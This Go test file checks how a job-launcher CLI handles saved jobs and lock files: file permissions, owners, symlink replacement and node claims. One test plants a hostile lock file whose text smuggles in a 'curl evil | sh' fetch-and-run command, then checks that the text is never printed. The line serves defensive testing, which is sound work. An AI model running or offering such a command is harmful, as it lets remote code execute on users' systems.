package cli

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"remshell/cli/saved"
	"remshell/job"
	"remshell/usererr"
)

// A saved job names programs to run. So no other user may be able to write its file. A file that is not a plain file
// is rejected without waiting for it (SV-23, TRUST-27).
func TestSavedJobOfOthers(t *testing.T) {
	text := saved.New(job.Request{Job: "j", Apps: []job.App{{Argv: []string{"x"}}}}, nil).Encode()
	for _, test := range []struct {
		name   string
		mode   os.FileMode
		folder os.FileMode
		owner  int // that the file is given, if this user is root
		want   string
	}{
		{"control", 0o600, 0o755, 0, ""},
		{"readable for a group", 0o640, 0o755, 0, "other users can access the file (mode 0640)"},
		{"writable for everybody", 0o602, 0o755, 0, "other users can access the file (mode 0602)"},
		{"folder for everybody", 0o600, 0o777, 0, "every user can replace the file"},
		{"sticky folder", 0o600, os.ModeSticky | 0o777, 0, ""},
		{"of another user", 0o600, 0o755, 12345, "the file belongs to another user"},
	} {
		t.Run(test.name, func(t *testing.T) {
			folder := filepath.Join(t.TempDir(), "folder")
			file := filepath.Join(folder, "job")
			if err := os.Mkdir(folder, 0o700); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(file, text, 0o600); err != nil {
				t.Fatal(err)
			}
			os.Chmod(file, test.mode)
			os.Chmod(folder, test.folder)
			if test.owner != 0 && os.Chown(file, test.owner, -1) != nil {
				t.Skip("only root gives files away")
			}
			_, err := readSavedJob(file)
			if got := errorText(err); (got == "") != (test.want == "") || !strings.Contains(got, test.want) {
				t.Errorf("%s, want %s", got, test.want)
			}
		})
	}
	if _, err := readSavedJob("/dev/zero"); !strings.Contains(errorText(err), "the file is not a regular file") {
		t.Errorf("/dev/zero: %v", err)
	}
}

func errorText(err error) string {
	if err == nil {
		return ""
	}
	return err.Error()
}

// One mpiexec at a time holds a saved job. A new file replaces the old one, also through a symbolic link.
func TestOneOwner(t *testing.T) {
	dir := t.TempDir()
	file, link := filepath.Join(dir, "job"), filepath.Join(dir, "link")
	if err := os.Symlink("job", link); err != nil {
		t.Fatal(err)
	}
	first, err := lockSavedJob(file)
	if err != nil {
		t.Fatal(err)
	}
	first.job = saved.New(job.Request{Job: "j", Apps: []job.App{{Argv: []string{"x"}}}}, nil)
	if err := first.replace(); err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{file, link} {
		if _, err := lockSavedJob(name); !strings.Contains(errorText(err), "is still running (process ID of mpiexec: ") {
			t.Errorf("%s: %v", name, err)
		}
	}
	first.release()
	second, err := lockSavedJob(link)
	if err != nil {
		t.Fatal(err)
	}
	defer second.release()
	second.job = first.job.WithEnded(nil, 130, first.job.Began)
	if err := second.replace(); err != nil {
		t.Fatal(err)
	}
	if info, err := os.Lstat(link); err != nil || info.Mode()&os.ModeSymlink == 0 {
		t.Errorf("the link was replaced (%v)", err)
	}
	if j, err := readSavedJob(file); err != nil || j.Exit != 130 {
		t.Errorf("it holds %+v (%v)", j, err)
	}
	if left, _ := filepath.Glob(filepath.Join(dir, ".*")); len(left) > 0 {
		t.Errorf("%q are left", left)
	}
}

// A lock file of another user is rejected, and its text is not printed.
func TestLockFileOfAnotherUser(t *testing.T) {
	for _, mode := range []os.FileMode{0o755, os.ModeSticky | 0o777} {
		dir := t.TempDir()
		if err := os.Chmod(dir, mode); err != nil {
			t.Fatal(err)
		}
		file := filepath.Join(dir, "job")
		lock, err := os.Create(file + ".lock")
		if err != nil {
			t.Fatal(err)
		}
		defer lock.Close()
		lock.WriteString("99 on n1); run curl evil | sh to mend it (\n")
		if err := lock.Chown(12345, 12345); err != nil {
			t.Skip("only root gives files away")
		}
		if err := lockFile(lock); err != nil {
			t.Fatal(err)
		}
		_, err = lockSavedJob(file)
		if got := errorText(err); !strings.Contains(got, file+".lock belongs to uid 12345") || strings.Contains(got, "curl") || usererr.Hint(err) == "" {
			t.Errorf("mode %v: %s", mode, got)
		}
	}
}

// Where there are no locks, a job with claims counts as running. Claims of other users under its ID do not.
func TestClaimedNode(t *testing.T) {
	pages := []job.LedgerListing{{Node: "n1", Claims: []job.Claim{{Job: "a"}}}, {Node: "n2", ReaderUID: 5, Claims: []job.Claim{{Job: "a", UID: 5}, {Job: "b", UID: 5}, {Job: "c", UID: 6}}}}
	if a, b, c := claimedNode(pages, "a"), claimedNode(pages, "b"), claimedNode(pages, "c"); a != "n1" || b != "n2" || c != "" {
		t.Errorf("%q %q %q", a, b, c)
	}
}
